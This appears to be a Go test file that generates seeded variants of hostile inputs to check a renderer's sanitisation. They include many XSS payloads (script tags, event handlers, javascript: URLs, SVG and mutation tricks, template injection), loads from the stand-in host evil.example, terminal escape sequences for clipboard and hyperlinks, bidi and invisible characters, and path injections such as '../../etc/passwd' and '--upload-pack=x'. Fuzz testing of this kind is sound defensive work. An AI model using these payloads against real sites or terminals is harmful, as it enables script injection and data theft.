package browser_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// payload is a text as somebody hostile writes it.
type payload struct {
	n      int
	family string
	text   string
}

// payloads returns n hostile texts, the same ones for the same seed. The families take
// turns, and each text is a new variant.
func payloads(seed uint64, n int) []payload {
	r := rand.New(rand.NewPCG(seed, 15))
	list := make([]payload, n)
	for i := range list {
		f := families[i%len(families)]
		list[i] = payload{i, f.name, f.write(dice{r})}
	}
	return list
}

type family struct {
	name  string
	write func(d dice) string
}

// dice varies what a payload says but not what it does: "run()" is the canary
// that the page's watcher knows, trap the address that nothing may ask for.
type dice struct{ *rand.Rand }

func (d dice) one(of ...string) string { return of[d.IntN(len(of))] }

// mixed changes the case of letters.
func (d dice) mixed(s string) string {
	return strings.Map(func(r rune) rune {
		if d.IntN(2) == 0 && r >= 'a' && r <= 'z' {
			return r - 'a' + 'A'
		}
		return r
	}, s)
}

// code returns a script that shows that it ran.
func (d dice) code() string {
	return d.one("canary()", "canary`1`", "window.canary(1)", "top.canary()", "alert(1)", "confirm(1)", "setTimeout(canary)",
		"fetch('/qz-trap')", "import('//evil.example/qz-trap')", "self['can'+'ary']()")
}

func (d dice) space() string { return d.one(" ", "\n", "\t", "/", " \n ", "\f") }

func (d dice) trap() string {
	return d.one("qz-trap", "/qz-trap", "//evil.example/qz-trap", "http://evil.example/qz-trap", "https://evil.example/qz-trap?x")
}

// on returns the name of a handler for an event that happens without the user.
func (d dice) on() string {
	return d.mixed(d.one("onerror", "onload", "onfocus", "onanimationstart", "ontoggle", "onpageshow", "onbeforetoggle", "onscrollend"))
}

var families = []family{
	{"script element", func(d dice) string {
		tag := d.mixed("script")
		return d.one("", "</title>", "</textarea>", "-->", "</noscript>", "]]>") + "<" + tag + d.space() + ">" + d.code() + "</" + tag + ">"
	}},
	{"script from elsewhere", func(d dice) string {
		return "<" + d.mixed("script") + d.space() + "src=" + d.one("", `"`, "'") + d.trap() + d.one("></script>", ">", " //")
	}},
	{"event handler", func(d dice) string {
		return "<" + d.one("img src=x", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "object data=x",
			"marquee", "select autofocus", "xss style=animation-name:x", "button popovertarget=x") + d.space() + d.on() + "=" + d.code() + ">"
	}},
	{"image from elsewhere", func(d dice) string {
		return "<" + d.one("img src", "image href", "input type=image src", "video poster", "img srcset", "link rel=stylesheet href", "iframe src",
			"object data", "embed src", "base href", "frame src", "source src") + "=" + d.trap() + ">"
	}},
	{"svg", func(d dice) string {
		return "<svg" + d.space() + d.one("onload="+d.code()+">", "><script>"+d.code()+"</script></svg>",
			"><animate onbegin="+d.code()+" attributeName=x dur=1s>", "><use href=data:image/svg+xml,<svg/onload="+d.code()+">#x>",
			"><foreignObject><iframe srcdoc='<script>"+d.code()+"</script>'></foreignObject></svg>", "><set attributeName=href to=javascript:"+d.code()+">")
	}},
	{"javascript URL", func(d dice) string {
		scheme := d.one("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,")
		return d.one(scheme+d.code(), "<a href=\""+scheme+d.code()+"\">x</a>", "<form action="+scheme+d.code()+"><button>x</button></form>",
			"<iframe src='"+scheme+d.code()+"'>", "<meta http-equiv=refresh content='0;url="+scheme+d.code()+"'>")
	}},
	{"template injection", func(d dice) string {
		return d.one("{{constructor.constructor('"+d.code()+"')()}}", "${"+d.code()+"}", "{{= "+d.code()+" }}", "<%= "+d.code()+" %>", "#{"+d.code()+"}",
			"{{.}}", "{{template \"x\"}}", "{% raw %}", "@{ "+d.code()+" }", "[[${"+d.code()+"}]]", "<template><script>"+d.code()+"</script></template>")
	}},
	{"attribute breaker", func(d dice) string {
		q := d.one(`"`, "'", "`", `\"`, `&quot;`, `">`, `'>`, `"/>`)
		return q + d.space() + d.one(d.on()+"="+q+d.code(), "autofocus "+d.on()+"="+d.code()+" x="+q, "style="+q+"background:url("+d.trap()+")",
			"hx-get="+q+"/qz-trap"+q+" hx-trigger=load x="+q, "hx-on:load="+q+d.code(), "data-topic="+q+"nav", "href="+q+"javascript:"+d.code())
	}},
	{"library attribute", func(d dice) string {
		return "<div id=" + d.one("main", "top", "panel", "alerts", "toasts", "answer", "board") + " " +
			d.one("hx-get=/qz-trap hx-trigger=load", "hx-on::load="+d.code(), "data-into=toasts data-op=remove", "data-copy=x", "hx-swap-oob=true", "data-socket=//evil.example") + ">x</div>"
	}},
	{"mutation", func(d dice) string {
		inner := "<img src=x " + d.on() + "=" + d.code() + ">"
		return d.one("<noscript><p title=\"</noscript>"+inner+"\">", "<math><mtext><table><mglyph><style><!--</style>"+inner,
			"<svg><style><img src='</style>"+inner+"'>", "<form><math><mtext></form><form><mglyph><style></math>"+inner,
			"<listing>&lt;img src=x onerror="+d.code()+"&gt;</listing>", "<xmp><p title='</xmp>"+inner+"'>", "<![CDATA[><"+inner+"]]>",
			"<select><style></select>"+inner+"</style>", "<textarea></textarea"+d.space()+">"+inner, "<!--><"+inner+"-->", "<? "+inner, "<plaintext>"+inner)
	}},
	{"entities", func(d dice) string {
		return d.one("&#x202e;gnp.exe", "&#8238;&rlm;&lrm;x", "ad&#8203;&ZeroWidthSpace;&shy;min", "&#x1b;[31m&#7;", "&#155;31m&#xfeff;&InvisibleTimes;",
			"&lt;script&gt;"+d.code()+"&lt;/script&gt;", "&#60;img src=x onerror="+d.code()+"&#62;", "&amp;lt;b&amp;gt;", "&#x3c;svg/onload="+d.code()+"&#x3e;",
			"&ltscript&gt", "&#0;&#x80;&#xd800;", "&NotEqualTilde;&nbsp;&", "%3Cscript%3E"+d.code()+"%3C/script%3E", `\u003cscript\u003e`+d.code()+`\u003c/script\u003e`, `\x3cimg src=x\x3e`)
	}},
	{"markdown", func(d dice) string {
		to := d.one("javascript:"+d.code(), d.trap(), "data:text/html,<script>"+d.code()+"</script>", "vbscript:x", "\x01javascript:"+d.code())
		return d.one("[x]("+to+")", "![x]("+to+")", "<"+to+">", "[x]: "+to+"\n[x]", "[<img src=x onerror="+d.code()+">]("+to+")", "![x\" onerror=\""+d.code()+"]("+to+")",
			"\n```html\n<script>"+d.code()+"</script>\n```\n", "`<b>`", "<div markdown=1><script>"+d.code()+"</script></div>", "# <img src=x onerror="+d.code()+">", "http://evil.example/\"onmouseover=\""+d.code())
	}},
	{"secret beside markup", func(d dice) string {
		return d.one("<b>password=", "\"><img src=x> password=", "&lt;api_key=", "<script>token=") + shareSecret + d.one("<i>", "&amp;", "' onload=x", " \x1b[0m")
	}},
	{"terminal colours", func(d dice) string {
		return fmt.Sprintf("\x1b[%d;%dm", d.IntN(110), d.IntN(256)) + d.one("red", "<b>red</b>", "\x1b[38;5;1mx") + d.one("\x1b[0m", "\x1b[m", "", "\x1b[")
	}},
	{"terminal cursor", func(d dice) string {
		return "shown" + d.one("\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b[?1049h", "\x1b[8m", "\x1bc", "\x1b[6n", "\x1b]0;", "\b\b\b", "\x1b7", "\x1b(0", "\x1bP1$q\x1b\\", "\x1b_x\x1b\\", "\x1b[100D") + "<i>hidden</i>"
	}},
	{"terminal link", func(d dice) string {
		end := d.one("\a", "\x1b\\")
		return "\x1b]8;;" + d.one("javascript:"+d.code(), d.trap(), "file:///etc/passwd") + end + d.one("click", "<b>click</b>") + "\x1b]8;;" + end
	}},
	{"terminal clipboard and title", func(d dice) string {
		return "\x1b]" + d.one("52;c;Y2FuYXJ5KCk=", "0;<title>", "2;</title><script>"+d.code()+"</script>", "1337;File=x:Y2FuYXJ5", "777;notify;a;b", "9;4;1;50") + d.one("\a", "\x1b\\", "")
	}},
	{"C1 controls", func(d dice) string {
		return d.one("\u009b31mred", "\u009d0;title\u009c", "\u0085next", "\u0090x\u009c", "\u009fx", "\u0080\u0099") + "<u>" + d.one("\x9b31m", "\x9d8;;x\x9c", "")
	}},
	{"bidi", func(d dice) string {
		return d.one("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c", "\u202b") + d.one("gnp.exe", "/* <b> */", "if (admin) {", "txt.<script>") + d.one("\u202c", "\u2069", "", "\u202e\u2066")
	}},
	{"invisible", func(d dice) string {
		return "ad" + d.one("\u200b", "\u2060", "\ufeff", "\u00ad", "\u2063", "\u180e", "\u2028", "\u2029", "\U000e0041\U000e007f", "\ufffa", "\u206a") + d.one("min", "<b>", "\" onload=x")
	}},
	{"NUL and other controls", func(d dice) string {
		return d.one("<scr\x00ipt>", "<\x00img src=x onerror="+d.code()+">", "a\x00b", "\x01\x02\x03\x0b\x0c\x0e\x7f", "java\x00script:"+d.code(), "\x1a\x04", "a\r\nb", "<img\x0bsrc=x\x0conerror="+d.code()+">")
	}},
	{"broken UTF-8", func(d dice) string {
		return d.one("\xc0\xbcscript\xc0\xbe", "\xe0\x80\xbcimg", "\xf0\x80\x80\xbc", "\xed\xa0\x80\xed\xb0\x80", "\xff\xfe<b>", "\xc3", "\xe2\x80", "\xf4\x90\x80\x80", "+ADw-script+AD4-", "\x1b$B<b>") +
			d.one("<script>"+d.code()+"</script>", "\" x=", "'", "")
	}},
	{"path", func(d dice) string {
		return d.one("../../etc/passwd", "a/b<img src=x onerror="+d.code()+">", "-rf", "--upload-pack=x", "$(canary)", "a b;c|d", "C:\\x\\<b>", "..\\..\\x", "/dev/zero", "%2e%2e%2f", "con", "🂡👩‍👩‍👧<b>") +
			d.one("", ".go", "\n.go", "/")
	}},
	{"wide", func(d dice) string {
		return strings.Repeat(d.one("W", "Ｗ", "<b>", "&", "🂡", "\u0301", "﷽"), 20+d.IntN(60))
	}},
}

// shareSecret stands in payloads after names of secrets: a share hides it.
const shareSecret = "hunter2hunter2"
